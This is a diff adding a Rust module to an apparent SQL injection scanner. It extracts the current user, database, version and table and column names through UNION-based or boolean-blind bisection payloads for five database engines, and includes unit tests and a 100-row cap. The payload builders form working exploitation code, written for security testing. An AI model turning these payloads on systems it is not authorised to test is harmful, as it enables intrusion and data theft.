@@ -0,0 +1,418 @@
+use std::future::Future;
+
+use regex::Regex;
+use tokio_rustls::TlsConnector;
+
+use crate::sqli::blind::BooleanOracle;
+use crate::sqli::error::DBMS;
+use crate::sqli::sqli::{send, sql_scanner, InjectionPoint};
+use crate::sqli::union::{marker, UnionContext};
+
+// Extraction is there to prove impact, not to dump databases, --max-rows can't go past this
+pub const MAX_ROWS: usize = 100;
+pub const DEFAULT_ROWS: usize = 10;
+
+// Longest value read through boolean bisection, anything longer is cut
+const MAX_LENGTH: usize = 128;
+
+// Scalar queries per database, {n} is the 0-based row, {r} the 1-based one and {t} the table
+struct Queries {
+    user: Option<&'static str>,
+    database: Option<&'static str>,
+    version: &'static str,
+    table: &'static str,
+    column: &'static str,
+}
+
+fn queries(dbms: DBMS) -> Queries {
+    match dbms {
+        DBMS::MYSQL => Queries {
+            user: Some("CURRENT_USER()"),
+            database: Some("DATABASE()"),
+            version: "@@version",
+            table: "(SELECT table_name FROM information_schema.tables WHERE table_schema=DATABASE() ORDER BY table_name LIMIT {n},1)",
+            column: "(SELECT column_name FROM information_schema.columns WHERE table_schema=DATABASE() AND table_name='{t}' ORDER BY ordinal_position LIMIT {n},1)",
+        },
+        DBMS::POSTGRESQL => Queries {
+            user: Some("current_user"),
+            database: Some("current_database()"),
+            version: "version()",
+            table: "(SELECT table_name FROM information_schema.tables WHERE table_schema=current_schema() ORDER BY table_name LIMIT 1 OFFSET {n})",
+            column: "(SELECT column_name FROM information_schema.columns WHERE table_schema=current_schema() AND table_name='{t}' ORDER BY ordinal_position LIMIT 1 OFFSET {n})",
+        },
+        DBMS::MSSQL => Queries {
+            user: Some("SYSTEM_USER"),
+            database: Some("DB_NAME()"),
+            version: "@@version",
+            table: "(SELECT name FROM sys.tables ORDER BY name OFFSET {n} ROWS FETCH NEXT 1 ROWS ONLY)",
+            column: "(SELECT name FROM sys.columns WHERE object_id=OBJECT_ID('{t}') ORDER BY column_id OFFSET {n} ROWS FETCH NEXT 1 ROWS ONLY)",
+        },
+        DBMS::ORACLE => Queries {
+            user: Some("USER"),
+            database: Some("(SELECT SYS_CONTEXT('USERENV','DB_NAME') FROM dual)"),
+            version: "(SELECT banner FROM v$version WHERE ROWNUM=1)",
+            table: "(SELECT table_name FROM (SELECT table_name,ROWNUM r FROM (SELECT table_name FROM user_tables ORDER BY table_name)) WHERE r={r})",
+            column: "(SELECT column_name FROM (SELECT column_name,ROWNUM r FROM (SELECT column_name FROM user_tab_columns WHERE table_name='{t}' ORDER BY column_id)) WHERE r={r})",
+        },
+        // No users and a single "main" database
+        DBMS::SQLITE => Queries {
+            user: None,
+            database: None,
+            version: "sqlite_version()",
+            table: "(SELECT name FROM sqlite_master WHERE type='table' ORDER BY name LIMIT 1 OFFSET {n})",
+            column: "(SELECT name FROM pragma_table_info('{t}') LIMIT 1 OFFSET {n})",
+        },
+    }
+}
+
+// Conditions only one database evaluates to true, the rest error out or say false
+const BLIND_PROBES: &[(DBMS, &str)] = &[
+    (DBMS::MSSQL, "@@SPID>0"),
+    (DBMS::POSTGRESQL, "pg_backend_pid()>0"),
+    (DBMS::MYSQL, "CONNECTION_ID()>0"),
+    (DBMS::ORACLE, "(SELECT COUNT(*) FROM v$version)>0"),
+    (DBMS::SQLITE, "LENGTH(sqlite_version())>0"),
+];
+
+fn row(template: &str, table: &str, n: usize) -> String {
+    template
+        .replace("{t}", &table.replace('\'', "''"))
+        .replace("{n}", &n.to_string())
+        .replace("{r}", &(n + 1).to_string())
+}
+
+// Expression as a string type, so concatenation and LENGTH/SUBSTRING work on numbers and identifiers too
+fn as_text(dbms: DBMS, expression: &str) -> String {
+    match dbms {
+        DBMS::MYSQL => format!("CAST({} AS CHAR)", expression),
+        DBMS::POSTGRESQL => format!("CAST({} AS text)", expression),
+        DBMS::MSSQL => format!("CAST({} AS nvarchar(4000))", expression),
+        DBMS::ORACLE | DBMS::SQLITE => format!("({})", expression),
+    }
+}
+
+fn length(dbms: DBMS, text: &str) -> String {
+    match dbms {
+        DBMS::MSSQL => format!("LEN({})", text),
+        _ => format!("LENGTH({})", text),
+    }
+}
+
+fn char_code(dbms: DBMS, text: &str, position: usize) -> String {
+    match dbms {
+        DBMS::MYSQL | DBMS::POSTGRESQL => format!("ASCII(SUBSTRING({},{},1))", text, position),
+        DBMS::MSSQL => format!("UNICODE(SUBSTRING({},{},1))", text, position),
+        DBMS::ORACLE => format!("ASCII(SUBSTR({},{},1))", text, position),
+        DBMS::SQLITE => format!("UNICODE(SUBSTR({},{},1))", text, position),
+    }
+}
+
+// How values get out of the database, picked by whichever technique confirmed the point
+pub enum CHANNEL<'a> {
+    // Context with at least one reflected column, and the column to read through
+    UNION(&'a UnionContext, usize),
+    BLIND(&'a BooleanOracle),
+}
+
+impl CHANNEL<'_> {
+    // None for NULL, empty values and failed requests alike, all of them end an enumeration
+    async fn read(
+        &self,
+        scanner: &sql_scanner<'_>,
+        point: &InjectionPoint,
+        tls: &TlsConnector,
+        dbms: DBMS,
+        expression: &str,
+    ) -> Option<String> {
+        let value = match self {
+            CHANNEL::UNION(context, column) => union_read(scanner, point, tls, dbms, context, *column, expression).await,
+            CHANNEL::BLIND(oracle) => blind_read(scanner, point, tls, dbms, oracle, expression).await,
+        };
+        value.filter(|value| !value.is_empty())
+    }
+}
+
+async fn union_read(
+    scanner: &sql_scanner<'_>,
+    point: &InjectionPoint,
+    tls: &TlsConnector,
+    dbms: DBMS,
+    context: &UnionContext,
+    column: usize,
+    expression: &str,
+) -> Option<String> {
+    let (start, end) = (marker(), marker());
+    let text = as_text(dbms, expression);
+    let wrapped = match dbms {
+        DBMS::MYSQL => format!("CONCAT('{}',{},'{}')", start, text, end),
+        DBMS::MSSQL => format!("'{}'+{}+'{}'", start, text, end),
+        _ => format!("'{}'||{}||'{}'", start, text, end),
+    };
+    let from = if dbms == DBMS::ORACLE { " FROM dual" } else { "" };
+    let response = send(point, &context.select(column, &wrapped, from), &scanner.headers, tls).await?;
+
+    let extract = Regex::new(&format!("(?s){}(.*?){}", start, end)).unwrap();
+    extract
+        .captures(&response.body)
+        .and_then(|c| c.get(1))
+        .map(|value| value.as_str().trim().to_string())
+}
+
+// Smallest value in low..=high that expression is not greater than, test answers a condition
+async fn bisect<F, Fut>(test: &mut F, expression: &str, mut low: usize, mut high: usize) -> Option<usize>
+where
+    F: FnMut(String) -> Fut,
+    Fut: Future<Output = Option<bool>>,
+{
+    while low < high {
+        let middle = (low + high) / 2;
+        if test(format!("{}>{}", expression, middle)).await? {
+            low = middle + 1;
+        } else {
+            high = middle;
+        }
+    }
+    Some(low)
+}
+
+// Value of expression a character at a time, through whatever answers true or false conditions
+async fn bisect_value<F, Fut>(dbms: DBMS, expression: &str, mut test: F) -> Option<String>
+where
+    F: FnMut(String) -> Fut,
+    Fut: Future<Output = Option<bool>>,
+{
+    let text = as_text(dbms, expression);
+    // LENGTH(NULL)>n is never true, so a missing row reads as length 0
+    let length = bisect(&mut test, &length(dbms, &text), 0, MAX_LENGTH).await?;
+
+    let mut value = String::new();
+    for position in 1..=length {
+        let code = bisect(&mut test, &char_code(dbms, &text, position), 0, 127).await?;
+        // 127 means "at least 127", outside ASCII is not worth the extra requests
+        match code {
+            32..=126 => value.push(code as u8 as char),
+            _ => value.push('?'),
+        }
+    }
+    Some(value)
+}
+
+async fn blind_read(
+    scanner: &sql_scanner<'_>,
+    point: &InjectionPoint,
+    tls: &TlsConnector,
+    dbms: DBMS,
+    oracle: &BooleanOracle,
+    expression: &str,
+) -> Option<String> {
+    bisect_value(dbms, expression, move |condition| async move { oracle.test(scanner, point, tls, &condition).await }).await
+}
+
+// Database behind a boolean point when error messages didn't give it away
+pub async fn blind_dbms(
+    scanner: &sql_scanner<'_>,
+    point: &InjectionPoint,
+    tls: &TlsConnector,
+    oracle: &BooleanOracle,
+) -> Option<DBMS> {
+    for (dbms, condition) in BLIND_PROBES {
+        if oracle.test(scanner, point, tls, condition).await == Some(true) {
+            return Some(*dbms);
+        }
+    }
+    None
+}
+
+// Current user, database, version, then table and column names until max_rows names have been read
+pub async fn extract(
+    scanner: &sql_scanner<'_>,
+    point: &InjectionPoint,
+    tls: &TlsConnector,
+    dbms: DBMS,
+    channel: CHANNEL<'_>,
+    max_rows: usize,
+) -> Vec<(String, String)> {
+    let channel = &channel;
+    collect(dbms, max_rows, move |expression| async move { channel.read(scanner, point, tls, dbms, &expression).await }).await
+}
+
+// extract with read standing in for the channel, None ends an enumeration
+async fn collect<F, Fut>(dbms: DBMS, max_rows: usize, mut read: F) -> Vec<(String, String)>
+where
+    F: FnMut(String) -> Fut,
+    Fut: Future<Output = Option<String>>,
+{
+    let max_rows = max_rows.min(MAX_ROWS);
+    let queries = queries(dbms);
+    let mut extracted = vec![];
+
+    for (name, query) in [
+        ("current user", queries.user),
+        ("database", queries.database),
+        ("version", Some(queries.version)),
+    ] {
+        if let Some(query) = query {
+            if let Some(value) = read(query.to_string()).await {
+                extracted.push((name.to_string(), value));
+            }
+        }
+    }
+
+    let mut rows = 0;
+    let mut tables = vec![];
+    while rows < max_rows {
+        match read(row(queries.table, "", tables.len())).await {
+            Some(table) => tables.push(table),
+            None => break,
+        }
+        rows += 1;
+    }
+    if !tables.is_empty() {
+        extracted.push(("tables".to_string(), tables.join(", ")));
+    }
+
+    for table in &tables {
+        let mut columns = vec![];
+        while rows < max_rows {
+            match read(row(queries.column, table, columns.len())).await {
+                Some(column) => columns.push(column),
+                None => break,
+            }
+            rows += 1;
+        }
+        if !columns.is_empty() {
+            extracted.push((format!("columns of {}", table), columns.join(", ")));
+        }
+    }
+
+    if rows >= max_rows {
+        extracted.push(("row limit".to_string(), format!("stopped after {} rows", max_rows)));
+    }
+    extracted
+}
+
+#[cfg(test)]
+mod tests {
+    use std::collections::HashMap;
+
+    use super::*;
+
+    const ALL: [DBMS; 5] = [DBMS::MYSQL, DBMS::POSTGRESQL, DBMS::MSSQL, DBMS::ORACLE, DBMS::SQLITE];
+
+    #[test]
+    fn row_queries_fill_offsets_and_quote_tables() {
+        let mysql = queries(DBMS::MYSQL);
+        assert_eq!(
+            row(mysql.table, "", 2),
+            "(SELECT table_name FROM information_schema.tables WHERE table_schema=DATABASE() ORDER BY table_name LIMIT 2,1)"
+        );
+        assert!(row(mysql.column, "o'brien", 0).contains("table_name='o''brien'"));
+        // Oracle numbers rows from 1
+        assert!(row(queries(DBMS::ORACLE).table, "", 0).ends_with("WHERE r=1)"));
+        assert!(row(queries(DBMS::POSTGRESQL).column, "users", 3).ends_with("LIMIT 1 OFFSET 3)"));
+        assert!(row(queries(DBMS::MSSQL).table, "", 4).contains("OFFSET 4 ROWS"));
+        for dbms in ALL {
+            let queries = queries(dbms);
+            for filled in [row(queries.table, "users", 0), row(queries.column, "users", 0)] {
+                assert!(!filled.contains('{'), "{}: {}", dbms.name(), filled);
+            }
+        }
+        assert!(queries(DBMS::SQLITE).user.is_none());
+    }
+
+    #[test]
+    fn blind_expressions_per_dbms() {
+        assert_eq!(char_code(DBMS::MYSQL, &as_text(DBMS::MYSQL, "USER()"), 3), "ASCII(SUBSTRING(CAST(USER() AS CHAR),3,1))");
+        assert_eq!(length(DBMS::MSSQL, "x"), "LEN(x)");
+        assert_eq!(char_code(DBMS::SQLITE, "(x)", 1), "UNICODE(SUBSTR((x),1,1))");
+        assert_eq!(char_code(DBMS::ORACLE, "(x)", 2), "ASCII(SUBSTR((x),2,1))");
+    }
+
+    // Answers conditions the way a MySQL point would if expression were secret
+    fn oracle(secret: &'static str) -> impl FnMut(String) -> std::future::Ready<Option<bool>> {
+        let char_test = Regex::new(r",(\d+),1\)\)>(\d+)$").unwrap();
+        move |condition: String| {
+            let (value, bound) = if condition.starts_with("LENGTH(") {
+                let bound = condition.rsplit('>').next().unwrap().parse::<usize>().unwrap();
+                (secret.len(), bound)
+            } else {
+                let caps = char_test.captures(&condition).unwrap();
+                let position: usize = caps[1].parse().unwrap();
+                (secret.as_bytes()[position - 1] as usize, caps[2].parse().unwrap())
+            };
+            std::future::ready(Some(value > bound))
+        }
+    }
+
+    #[tokio::test]
+    async fn bisection_reads_the_value() {
+        assert_eq!(bisect_value(DBMS::MYSQL, "DATABASE()", oracle("shop_db")).await.as_deref(), Some("shop_db"));
+        assert_eq!(bisect_value(DBMS::MYSQL, "DATABASE()", oracle("")).await.as_deref(), Some(""));
+        // Outside printable ASCII comes back as ?
+        assert_eq!(bisect_value(DBMS::MYSQL, "DATABASE()", oracle("a\tb")).await.as_deref(), Some("a?b"));
+    }
+
+    #[tokio::test]
+    async fn bisection_gives_up_on_a_failed_request() {
+        let mut asked = 0;
+        let failing = |_: String| {
+            asked += 1;
+            std::future::ready(if asked > 3 { None } else { Some(true) })
+        };
+        assert_eq!(bisect_value(DBMS::MYSQL, "DATABASE()", failing).await, None);
+    }
+
+    // Database with tables users (id, name, password) and orders (id, total)
+    fn fake(expression: String) -> std::future::Ready<Option<String>> {
+        let answers: HashMap<String, &str> = [
+            ("CURRENT_USER()".to_string(), "app@localhost"),
+            ("DATABASE()".to_string(), "shop"),
+            ("@@version".to_string(), "8.0.36"),
+            (row(queries(DBMS::MYSQL).table, "", 0), "orders"),
+            (row(queries(DBMS::MYSQL).table, "", 1), "users"),
+            (row(queries(DBMS::MYSQL).column, "orders", 0), "id"),
+            (row(queries(DBMS::MYSQL).column, "orders", 1), "total"),
+            (row(queries(DBMS::MYSQL).column, "users", 0), "id"),
+            (row(queries(DBMS::MYSQL).column, "users", 1), "name"),
+            (row(queries(DBMS::MYSQL).column, "users", 2), "password"),
+        ]
+        .into_iter()
+        .collect();
+        std::future::ready(answers.get(&expression).map(|value| value.to_string()))
+    }
+
+    #[tokio::test]
+    async fn collect_reads_everything_under_the_limit() {
+        let extracted = collect(DBMS::MYSQL, DEFAULT_ROWS, fake).await;
+        let expected: Vec<(String, String)> = [
+            ("current user", "app@localhost"),
+            ("database", "shop"),
+            ("version", "8.0.36"),
+            ("tables", "orders, users"),
+            ("columns of orders", "id, total"),
+            ("columns of users", "id, name, password"),
+        ]
+        .iter()
+        .map(|(name, value)| (name.to_string(), value.to_string()))
+        .collect();
+        assert_eq!(extracted, expected);
+    }
+
+    #[tokio::test]
+    async fn collect_stops_at_the_row_limit() {
+        let extracted = collect(DBMS::MYSQL, 3, fake).await;
+        let names: Vec<&str> = extracted.iter().map(|(name, _)| name.as_str()).collect();
+        assert_eq!(names, vec!["current user", "database", "version", "tables", "columns of orders", "row limit"]);
+        assert_eq!(extracted[4].1, "id");
+        assert_eq!(extracted[5].1, "stopped after 3 rows");
+
+        // Never more than MAX_ROWS, whatever the caller asks for
+        let mut reads = 0;
+        let endless = |_: String| {
+            reads += 1;
+            std::future::ready(Some(format!("t{}", reads)))
+        };
+        let extracted = collect(DBMS::SQLITE, MAX_ROWS * 10, endless).await;
+        assert_eq!(extracted.last().unwrap().1, format!("stopped after {} rows", MAX_ROWS));
+    }
+}